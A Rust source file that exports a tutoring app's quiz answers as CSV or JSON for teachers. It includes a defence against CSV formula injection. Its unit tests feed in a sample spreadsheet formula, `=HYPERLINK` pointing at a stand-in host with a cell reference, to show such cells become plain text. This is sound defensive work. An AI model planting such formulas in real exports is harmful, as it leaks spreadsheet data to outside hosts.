//! `cloudtutor results`: every quiz and drill answer, exported for a teacher as CSV or JSON.
//!
//! One row per answer, columns `name,time,quiz,question,kind,answer,correct,seconds`, oldest
//! first. The answer is written as a person reads it (the text of the chosen choices, the order
//! given, the category of each item, the number with its unit), not as indices, so a teacher
//! can read a spreadsheet without the quiz files. Why CSV by hand rather than the `csv` crate:
//! the quoting rule (RFC 4180: quote a field holding a comma, quote, CR or LF, and double the
//! quotes) is five lines, and the export never reads CSV. Cells that a spreadsheet would run as a
//! formula are neutralised as OWASP advises (see [`csv_field`]).
use std::io::{self, Write};
use std::process::ExitCode;

use clap::{Args, ValueEnum};
use serde::Serialize;

use crate::cli::Cli;
use crate::content::{Catalog, Kind};
use crate::progress::{Progress, StoredResponse, Timestamp};
use crate::quiz::Response;

mod class;

/// Output formats of `cloudtutor results`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Format {
    /// Comma-separated values with a header line (opens in any spreadsheet).
    Csv,
    /// A JSON array of objects with the same fields as the CSV columns.
    Json,
}

/// Arguments of `cloudtutor results`.
#[derive(Debug, Clone, Args)]
pub struct ResultsArgs {
    /// Output format.
    #[arg(long, value_enum, default_value_t = Format::Csv)]
    pub format: Format,
    /// Only answers given at or after DATE: YYYY-MM-DD (local midnight) or an RFC 3339 time such
    /// as 2026-11-28T14:00:00Z.
    #[arg(long, value_name = "DATE", value_parser = parse_since)]
    pub since: Option<Timestamp>,
    /// The learner's name, written in the `name` column so a teacher can merge exports.
    #[arg(long)]
    pub name: Option<String>,
    /// A live class instead (its id is shown when the class ends): one row per student per
    /// question per round.
    #[arg(long, value_name = "ID")]
    pub session: Option<String>,
    /// With --session: per question, the distribution, the share right in each round and the
    /// most-chosen wrong answer, as text.
    #[arg(long, requires = "session")]
    pub report: bool,
}

/// Parses `--since`: `YYYY-MM-DD` is the start of that day in the machine's time zone (the
/// learner's calendar day, like every day the tutor shows); anything else must be RFC 3339. A clap
/// value parser, so a bad date is reported by clap with exit status 2.
pub fn parse_since(text: &str) -> Result<Timestamp, String> {
    parse_since_in(text, crate::progress::days::Zone::System)
}

/// [`parse_since`] with the zone given.
pub fn parse_since_in(text: &str, zone: crate::progress::days::Zone) -> Result<Timestamp, String> {
    let t = text.trim();
    let is_date = t.len() == 10
        && t.bytes().enumerate().all(|(i, b)| {
            if i == 4 || i == 7 {
                b == b'-'
            } else {
                b.is_ascii_digit()
            }
        });
    let parsed = if is_date {
        crate::progress::days::Zone::parse_date(t).map(|day| zone.start_of(day))
    } else {
        Timestamp::parse_rfc3339(t)
    };
    parsed.ok_or_else(|| {
        format!(
            "`{text}` is not a date: use YYYY-MM-DD (a local date) or an RFC 3339 time like 2026-11-28T14:00:00Z"
        )
    })
}

/// One exported answer.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Row {
    /// From `--name`: lets a teacher concatenate several learners' exports.
    pub name: String,
    /// When it was answered, RFC 3339 UTC (sorts as text, reads in any spreadsheet).
    pub time: String,
    /// Quiz id.
    pub quiz: String,
    /// Question id within the quiz (the row's key with `quiz`).
    pub question: String,
    /// The question kind (`single`, `multi`, …).
    pub kind: String,
    /// The answer as text.
    pub answer: String,
    /// Fully right (partial credit counts as not right, as in the quiz score).
    pub correct: bool,
    /// Seconds taken, to the millisecond.
    pub seconds: f64,
}

/// Runs the export. Exit 1 if progress cannot be found or read, 0 otherwise (an empty export
/// is a header line, or `[]`).
pub fn run(cli: &Cli, args: &ResultsArgs) -> ExitCode {
    let store = match cli.store() {
        Ok(s) => s,
        Err(e) => {
            eprintln!("cloudtutor: {e}");
            return ExitCode::from(1);
        }
    };
    let progress = match store.load() {
        Ok(snapshot) => {
            if let Some(notice) = snapshot.notice {
                eprintln!("cloudtutor: {notice}");
            }
            snapshot.progress
        }
        Err(e) => {
            eprintln!("cloudtutor: {e}");
            return ExitCode::from(1);
        }
    };
    if let Some(session) = &args.session {
        let text = class::find(&progress, session).and_then(|record| {
            if args.report {
                Ok(class::report(session, record))
            } else {
                class::export(&class::rows(session, record), args.format)
            }
        });
        return match text {
            Ok(text) => write_out(&text),
            Err(e) => {
                eprintln!("cloudtutor: {e}");
                ExitCode::from(1)
            }
        };
    }
    let catalog = Catalog::load(&cli.source());
    let rows = rows(
        &catalog,
        &progress,
        args.since,
        args.name.as_deref().unwrap_or(""),
    );
    let text = match args.format {
        Format::Csv => to_csv(&rows),
        Format::Json => match serde_json::to_string_pretty(&rows) {
            Ok(s) => s + "\n",
            Err(e) => {
                eprintln!("cloudtutor: cannot encode JSON: {e}");
                return ExitCode::from(1);
            }
        },
    };
    write_out(&text)
}

/// Writes the export to stdout; a closed pipe (`| head`) is not an error.
fn write_out(text: &str) -> ExitCode {
    let mut out = io::stdout().lock();
    match out.write_all(text.as_bytes()).and_then(|()| out.flush()) {
        Ok(()) => ExitCode::SUCCESS,
        // `cloudtutor results | head` is fine.
        Err(e) if e.kind() == io::ErrorKind::BrokenPipe => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("cloudtutor: cannot write the export: {e}");
            ExitCode::from(1)
        }
    }
}

/// Every answer in `progress` at or after `since`, oldest first (then by question id).
/// Questions no longer in the course are still exported, with what the record itself says.
pub fn rows(
    catalog: &Catalog,
    progress: &Progress,
    since: Option<Timestamp>,
    name: &str,
) -> Vec<Row> {
    let mut rows: Vec<(Timestamp, Row)> = Vec::new();
    for (id, record) in &progress.questions {
        let (quiz_id, question_id) = id.split_once('/').unwrap_or(("", id.as_str()));
        let kind = catalog.question(id).map(|(_, q)| &q.kind);
        for a in &record.answers {
            if since.is_some_and(|s| a.at < s) {
                continue;
            }
            let kind_name = match (kind, a.response.known()) {
                (Some(k), _) => k.name().to_string(),
                (None, Some(r)) => r.kind_name().to_string(),
                (None, None) => unknown_kind(&a.response),
            };
            rows.push((
                a.at,
                Row {
                    name: name.to_string(),
                    time: a.at.to_string(),
                    quiz: quiz_id.to_string(),
                    question: question_id.to_string(),
                    kind: kind_name,
                    answer: describe(kind, &a.response),
                    correct: a.correct,
                    seconds: (f64::from(a.seconds) * 1000.0).round() / 1000.0,
                },
            ));
        }
    }
    rows.sort_by(|(ta, a), (tb, b)| {
        ta.cmp(tb)
            .then_with(|| a.quiz.cmp(&b.quiz))
            .then_with(|| a.question.cmp(&b.question))
    });
    rows.into_iter().map(|(_, r)| r).collect()
}

fn unknown_kind(response: &StoredResponse) -> String {
    match response {
        StoredResponse::Unknown(v) => v
            .get("kind")
            .and_then(|k| k.as_str())
            .unwrap_or("unknown")
            .to_string(),
        StoredResponse::Known(r) => r.kind_name().to_string(),
    }
}

/// An answer as text: choice texts joined with `; `, an order as `first > second > third`,
/// a match as `item: category; …`, a number with its unit. Indices stand in for texts when the
/// question is no longer in the course (or the index is out of range); an answer of a kind this
/// build does not know is written as its raw JSON.
pub fn describe(kind: Option<&Kind>, response: &StoredResponse) -> String {
    let Some(response) = response.known() else {
        return match response {
            StoredResponse::Unknown(v) => v.to_string(),
            StoredResponse::Known(_) => String::new(),
        };
    };
    let text = |list: Option<&Vec<String>>, i: usize| -> String {
        list.and_then(|l| l.get(i))
            .cloned()
            .unwrap_or_else(|| format!("#{}", i + 1))
    };
    let choices = match kind {
        Some(Kind::Single { choices, .. } | Kind::Multi { choices, .. }) => Some(choices),
        Some(Kind::Order { items }) => Some(items),
        _ => None,
    };
    match response {
        Response::Single { choice } => text(choices, *choice),
        Response::Multi { choices: picked } => picked
            .iter()
            .map(|&i| text(choices, i))
            .collect::<Vec<_>>()
            .join("; "),
        Response::TrueFalse { answer } => answer.to_string(),
        Response::Order { order } => order
            .iter()
            .map(|&i| text(choices, i))
            .collect::<Vec<_>>()
            .join(" > "),
        Response::Match { categories } => {
            let (names, items) = match kind {
                Some(Kind::Match { categories, items }) => (
                    Some(categories),
                    Some(items.iter().map(|i| i.text.clone()).collect::<Vec<_>>()),
                ),
                _ => (None, None),
            };
            categories
                .iter()
                .enumerate()
                .map(|(i, c)| {
                    let item = text(items.as_ref(), i);
                    let cat = c.map_or_else(|| "(none)".to_string(), |c| text(names, c));
                    format!("{item}: {cat}")
                })
                .collect::<Vec<_>>()
                .join("; ")
        }
        Response::Numeric { value } => {
            let unit = match kind {
                Some(Kind::Numeric { unit, .. }) => unit.trim(),
                _ => "",
            };
            match (value.is_finite(), unit.is_empty()) {
                (false, _) => "not a number".to_string(),
                (true, true) => value.to_string(),
                (true, false) => format!("{value} {unit}"),
            }
        }
    }
}

const COLUMNS: [&str; 8] = [
    "name", "time", "quiz", "question", "kind", "answer", "correct", "seconds",
];

/// The rows as CSV with a header line; lines end in `\n`.
pub fn to_csv(rows: &[Row]) -> String {
    let mut out = COLUMNS.join(",");
    out.push('\n');
    for r in rows {
        let fields = [
            csv_field(&r.name),
            csv_field(&r.time),
            csv_field(&r.quiz),
            csv_field(&r.question),
            csv_field(&r.kind),
            csv_field(&r.answer),
            r.correct.to_string(),
            r.seconds.to_string(),
        ];
        out.push_str(&fields.join(","));
        out.push('\n');
    }
    out
}

/// One text cell of the export: neutralised against formula injection, then quoted when it must
/// be (RFC 4180), doubling any quote inside. Leading or trailing spaces are quoted too, since some
/// spreadsheets trim them otherwise.
///
/// Every text cell goes through here (names, ids, answers all come from people or content files),
/// so a quiz choice `=HYPERLINK(...)` or a learner named `=1+2` arrives in the spreadsheet as text.
pub fn csv_field(s: &str) -> String {
    let s = neutralise_formula(s);
    let needs = s.contains([',', '"', '\n', '\r'])
        || s.starts_with(char::is_whitespace)
        || s.ends_with(char::is_whitespace);
    if needs {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

/// OWASP's advice against CSV injection: a cell that a spreadsheet would read as a formula (it
/// starts with `=`, `+`, `-` or `@`, or with a tab or carriage return, which some spreadsheets
/// skip before looking) gets a leading `'`, which spreadsheets take as "this is text" and do not
/// show. Leading spaces are looked through too, since some importers trim them. Only CSV needs
/// this: the JSON export stays exactly what was answered.
fn neutralise_formula(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = s.starts_with(['\t', '\r'])
        || s.trim_start_matches(' ')
            .starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::content::MatchItem;
    use crate::progress::AnswerRecord;
    use crate::quiz::grade;

    #[test]
    fn since_accepts_dates_and_rfc3339() {
        use crate::progress::days::Zone;
        assert_eq!(
            parse_since_in("2026-11-28", Zone::UTC),
            Ok(Timestamp::parse_rfc3339("2026-11-28T00:00:00Z").unwrap())
        );
        // A date is the learner's local day: in Los Angeles it starts at 08:00 UTC.
        assert_eq!(
            parse_since_in("2026-11-28", Zone::Fixed(-8 * 60)),
            Ok(Timestamp::parse_rfc3339("2026-11-28T08:00:00Z").unwrap())
        );
        assert_eq!(
            parse_since("2026-11-28T15:00:00+01:00"),
            Ok(Timestamp::parse_rfc3339("2026-11-28T14:00:00Z").unwrap())
        );
        for bad in [
            "",
            "yesterday",
            "2026-13-01",
            "2026-02-30",
            "28/11/2026",
            "2026-11-2",
        ] {
            assert!(parse_since(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn csv_quoting() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a, b"), "\"a, b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
        assert_eq!(csv_field(" pad"), "\" pad\"");
        assert_eq!(csv_field(""), "");
    }

    #[test]
    fn csv_cells_that_look_like_formulas_are_text() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"x\"\")\""
        );
        assert_eq!(csv_field("=1+2"), "'=1+2");
        assert_eq!(csv_field("+1"), "'+1");
        assert_eq!(csv_field("-2+3"), "'-2+3");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("\t=1"), "'\t=1");
        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
        assert_eq!(csv_field("  =1"), "'  =1");
        // Inside a cell they are harmless.
        assert_eq!(csv_field("a=b"), "a=b");
        assert_eq!(csv_field("1-2"), "1-2");
    }

    #[test]
    fn answers_read_as_text() {
        let strings = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let known = |r: Response| StoredResponse::Known(r);
        let multi = Kind::Multi {
            choices: strings(&["EC2", "S3", "Lambda"]),
            answers: vec![0, 2],
        };
        assert_eq!(
            describe(
                Some(&multi),
                &known(Response::Multi {
                    choices: [2, 0].into_iter().collect()
                })
            ),
            "EC2; Lambda"
        );
        let order = Kind::Order {
            items: strings(&["x", "y", "z"]),
        };
        assert_eq!(
            describe(
                Some(&order),
                &known(Response::Order {
                    order: vec![2, 0, 1]
                })
            ),
            "z > x > y"
        );
        let matching = Kind::Match {
            categories: strings(&["IaaS", "FaaS"]),
            items: vec![
                MatchItem {
                    text: "EC2".into(),
                    category: 0,
                },
                MatchItem {
                    text: "Lambda".into(),
                    category: 1,
                },
            ],
        };
        assert_eq!(
            describe(
                Some(&matching),
                &known(Response::Match {
                    categories: vec![Some(1), None]
                })
            ),
            "EC2: FaaS; Lambda: (none)"
        );
        let numeric = Kind::Numeric {
            answer: 1.0,
            tolerance: 0.0,
            unit: "ms".into(),
        };
        assert_eq!(
            describe(Some(&numeric), &known(Response::Numeric { value: 120.5 })),
            "120.5 ms"
        );
        assert_eq!(
            describe(
                Some(&numeric),
                &known(Response::Numeric { value: f64::NAN })
            ),
            "not a number"
        );
        // Question gone from the course: indices stand in.
        assert_eq!(describe(None, &known(Response::Single { choice: 1 })), "#2");
        assert_eq!(
            describe(
                None,
                &StoredResponse::Unknown(serde_json::json!({"kind": "hotspot"}))
            ),
            r#"{"kind":"hotspot"}"#
        );
    }

    #[test]
    fn rows_are_filtered_sorted_and_named() {
        let kind = Kind::TrueFalse { answer: true };
        let at = |ms: i64| Timestamp::from_unix_millis(1_795_874_592_000 + ms);
        let answer = |t, a: bool| {
            let r = Response::TrueFalse { answer: a };
            AnswerRecord::new(t, r.clone(), &grade(&kind, &r), Duration::from_millis(1234))
        };
        let mut p = Progress::new();
        p.record_answer("b/q1", answer(at(0), true));
        p.record_answer("a/q1", answer(at(5), false));
        p.record_answer("a/q2", answer(at(-5), true));
        let catalog = Catalog::default();
        let all = rows(&catalog, &p, None, "Ada");
        let ids: Vec<String> = all
            .iter()
            .map(|r| format!("{}/{}", r.quiz, r.question))
            .collect();
        assert_eq!(ids, ["a/q2", "b/q1", "a/q1"]);
        assert_eq!(all[0].name, "Ada");
        assert_eq!(all[0].kind, "true_false");
        assert_eq!(all[0].seconds, 1.234);
        assert!(!all[2].correct);
        assert_eq!(rows(&catalog, &p, Some(at(0)), "").len(), 2);
        let csv = to_csv(&all);
        assert_eq!(csv.lines().count(), 4);
        assert!(csv.starts_with("name,time,quiz,question,kind,answer,correct,seconds\n"));
        assert!(csv.contains("\nAda,2026-11-28T14:03:11.995Z,a,q2,true_false,true,true,1.234\n"));
    }
}
